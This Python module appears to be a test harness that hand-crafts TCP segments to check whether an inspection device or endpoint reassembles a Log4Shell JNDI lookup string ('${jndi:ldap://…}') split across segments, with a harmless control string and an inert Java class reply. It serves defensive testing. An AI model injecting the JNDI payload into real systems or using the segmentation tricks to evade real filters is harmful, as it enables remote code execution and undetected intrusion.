# SPDX-License-Identifier: GPL-2.0-or-later
"""One try of one case: its keyword, its addresses, and a TCP by hand that says only what it is told to. Rows are written in these words."""
import contextlib
import itertools
import random
import subprocess
import threading
import time

import craft
from craft import ACK, FIN, PSH, RST, SYN

SERVER4, SERVER6 = "198.51.100.10", "2001:db8:5::10"
KEYWORD, HARMLESS = b"${jndi:ldap://203.0.113.212:88/", b"$-harm:ldap://203.0.113.212:88/"  # of equal length
WAIT_S, SEGMENT = 1.5, 1400
numbers = itertools.count(1)


class Broken(Exception):
    """The try could not be made: nothing is proven by it."""


class Trial:
    def __init__(self, link, endpoint, row, harmless):
        self.link, self.endpoint, self.row, self.harmless = link, endpoint, row, harmless
        self.serial = next(numbers)
        self.random = random.Random(row.number * 1000 + 7)
        self.address = f"203.0.113.{1 + self.serial % 250}"
        self.address6 = f"2001:db8:77::{self.serial:x}"
        self.macs = endpoint.mac, link.mac
        self.tuples, self.proofs, self.watched = set(), [], []
        self.marker = f"r{row.number:03}{self.serial:05}".encode()
        self.needle = (HARMLESS if harmless else KEYWORD) + self.marker + b"}"
        self.request(b"GET /?q=", b" HTTP/1.1\r\nHost: www.example.net\r\nUser-Agent: browser\r\n\r\n")
        self.prove(self.needle)

    # ---- the keyword

    def request(self, before, after):
        """kw: the request with the keyword; fill: one of equal length without; cuts: places within the keyword."""
        self.kw = before + self.needle + after
        self.fill = before + b"D" * len(self.needle) + after
        self.cuts = [len(before) + at for at in (4, 18, 30)]

    def prove(self, *proofs):
        """What the endpoint must have read, all of it, to have the keyword."""
        self.proofs = list(proofs)

    def watch(self, frames):
        """Where no program reads it: the frames that must have arrived."""
        self.proofs, self.watched = [], list(frames)
        return frames

    def pieces(self, data=None):
        data = self.kw if data is None else data
        ends = [0, *self.cuts, len(data)]
        return [(a, data[a:b]) for a, b in zip(ends, ends[1:])]

    def word(self, n):
        return bytes(self.random.choice(b"abcdefghijklmnopqrstuvwxyz") for _ in range(n))

    # ---- sending

    def ends(self, six=False):
        return (self.address6, SERVER6) if six else (self.address, SERVER4)

    def port(self):
        n = 10000 + (self.serial * 7 + len(self.tuples)) % 50000
        return n

    def claim(self, port, six=False):
        self.tuples.add((self.address6 if six else self.address, port))

    def send(self, frame, aside=False):
        self.link.send(frame, aside)

    @contextlib.contextmanager
    def detour(self):
        """What the endpoint sends us goes past the wire, and with Connection.aside what we send does too."""
        route = [f"{self.address}/32", "via", "198.51.100.253", "dev", "eth1"]
        subprocess.run(["ip", "route", "replace", *route], check=True)  # this thread is in the endpoint's namespace
        try:
            yield
        finally:
            subprocess.run(["ip", "route", "del", *route], check=True)

    def ip(self, protocol, body, six=False, **fields):
        ends = self.ends(six)
        self.send(craft.ether(self.macs, craft.ip6(ends, protocol, body, **fields) if six else craft.ip4(ends, protocol, body, **fields)))

    def open(self, **options):
        c = Connection(self, **options)
        c.handshake()
        return c

    def have(self):
        got = b"\0".join(bytes(self.endpoint.received[k]) for k in self.tuples if k in self.endpoint.received)
        if self.watched:
            return all(self.endpoint.saw(f) for f in self.watched)
        return bool(self.proofs) and all(p in got for p in self.proofs)

    def settle(self, seconds=0.3):
        end = time.monotonic() + seconds
        while time.monotonic() < end and not self.have():
            time.sleep(0.01)


class Connection:
    """Offsets count from the first byte after our SYN: 0 is its first data."""

    def __init__(self, trial, sport=None, dport=80, isn=None, six=False, options=b"", stamps=False, window=64240, tags=()):
        self.t, self.six, self.tags, self.window = trial, six, tags, window
        self.ports = sport or trial.port(), dport
        trial.claim(self.ports[0], six)
        self.isn = trial.random.getrandbits(32) if isn is None else isn
        self.options, self.stamps, self.clock, self.echo = options, stamps, 5_000_000, 0
        self.next, self.peer_isn, self.theirs, self.acked = 0, None, 0, None
        self.aside = self.dead = False
        self.heard, self.changed = [], threading.Condition()
        trial.link.listeners[trial.ends(six)[0], self.ports[0]] = self.hear

    # ---- what comes back

    def hear(self, segment):
        _, _, _, seq, ack, flags, _, options, data = segment
        with self.changed:
            self.heard.append(segment)
            at = options.find(b"\x08\x0a")
            if at >= 0 and len(options) >= at + 6:
                self.echo = int.from_bytes(options[at + 2:at + 6], "big")
            if flags & SYN and flags & ACK and self.peer_isn is None:
                self.peer_isn, self.theirs = seq, seq + 1
            self.dead |= self.peer_isn is not None and bool(flags & RST)
            if data and seq == self.theirs & 0xFFFFFFFF:
                self.theirs += len(data)
            if flags & ACK and not flags & RST:
                self.acked = (ack - self.isn - 1) & 0xFFFFFFFF
            self.changed.notify_all()

    def wait(self, seen, seconds=WAIT_S):
        with self.changed:
            return self.changed.wait_for(seen, seconds)

    def acks(self, offset, seconds=WAIT_S):
        """Has the receiver acknowledged all before this offset?"""
        return self.wait(lambda: self.dead or self.acked is not None and offset <= self.acked < 1 << 31, seconds) and not self.dead

    def was_reset(self):
        return self.dead

    # ---- what goes out

    def segment(self, flags, offset=None, data=b"", ack=None, seq=None, options=None, clock=None, **fields):
        """The segment without IP. options: instead of the usual ones."""
        if options is None:
            options = craft.stamp(self.clock if clock is None else clock, self.echo) if self.stamps else b""
        if seq is None:
            seq = self.isn + 1 + (self.next if offset is None else offset)
        if ack is None:
            ack = self.theirs if flags & ACK else 0
        fields.setdefault("window", self.window)
        return craft.tcp(self.t.ends(self.six), self.ports, seq, ack, flags, data, options, **fields)

    def frame(self, *args, ip=None, **fields):
        body, ends, ip = self.segment(*args, **fields), self.t.ends(self.six), ip or {}
        packet = craft.ip6(ends, craft.TCP, body, **ip) if self.six else craft.ip4(ends, craft.TCP, body, **ip)
        return craft.ether(self.t.macs, packet, tags=self.tags)

    def put(self, offset, data=b"", flags=PSH | ACK, **fields):
        self.t.send(self.frame(flags, offset, data, **fields), self.aside)

    def flag(self, flags, offset=None, **fields):
        self.t.send(self.frame(flags, offset, **fields), self.aside)

    def say(self, data, wait=True, **fields):
        """The next bytes, and the receiver's word that it has them."""
        for at in range(0, len(data), SEGMENT):
            self.put(self.next, data[at:at + SEGMENT], **fields)
            self.next += len(data[at:at + SEGMENT])
        if wait:
            self.acks(self.next)

    def tell(self, data=None, wait=True, **fields):
        """All that is left to say, cut within the keyword."""
        for offset, piece in self.t.pieces(data):
            if offset + len(piece) > self.next:
                self.say(piece[max(0, self.next - offset):], wait, **fields)

    def syn(self, flags=SYN, data=b"", options=None, **fields):
        if options is None:
            options = self.options or craft.MSS
            if self.stamps:
                options += craft.stamp(self.clock, 0)
        self.t.send(self.frame(flags, seq=self.isn, data=data, options=options, **fields), self.aside)

    def handshake(self):
        for _ in range(3):
            self.syn()
            if self.wait(lambda: self.peer_isn is not None):
                break
        else:
            raise Broken("no SYN/ACK")
        self.flag(ACK, 0)
        return self

    def finish(self):
        """Done in order: all said, acknowledged, closed."""
        self.flag(FIN | ACK, self.next)


class Visit(Connection):
    """The other way round: a program inside calls us, and asks for a Java class (inert: its magic and no code)."""

    def __init__(self, trial, port=8000, body=None, before=None):
        super().__init__(trial, sport=port)
        t = trial
        if body is None:
            magic = b"CAFEBABE"[:4] if t.harmless else b"\xca\xfe\xba\xbe"
            body = magic + b"\0\0\0\x34\0\x10" + t.marker + b"\0" * 64
        if before is None:
            before = b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: %d\r\n\r\n" % len(body)
        t.kw, t.fill = before + body, before + b"D" * len(body)
        t.cuts = [len(before) + 1, len(before) + 3, len(before) + 9]
        t.prove(body)

    def hear(self, segment):
        with self.changed:
            if segment[5] & SYN and self.peer_isn is None:
                self.peer_isn, self.theirs = segment[3], segment[3] + 1
                self.ports = self.ports[0], segment[2][0]
        super().hear(segment)

    def begin(self):
        self.t.endpoint.visit((self.t.ends(self.six)[0], self.ports[0]), b"GET /a HTTP/1.1\r\nHost: files.example.net\r\n\r\n")
        if not self.wait(lambda: self.peer_isn is not None):
            raise Broken("nobody called")
        return self

    def syn(self, flags=SYN | ACK, data=b"", options=None, ack=None, seq_as=None, **fields):
        options = (self.options or craft.MSS) if options is None else options
        self.t.send(self.frame(flags, seq=self.isn if seq_as is None else seq_as, data=data, options=options, ack=ack, **fields))

    def handshake(self):
        self.syn()
        self.wait_request()
        return self

    def wait_request(self):
        if not self.wait(lambda: any(s[8] for s in self.heard)):
            raise Broken("no request came")


def fetch(t):
    v = Visit(t).begin()
    v.handshake()
    v.put(0, t.kw)
    t.settle()
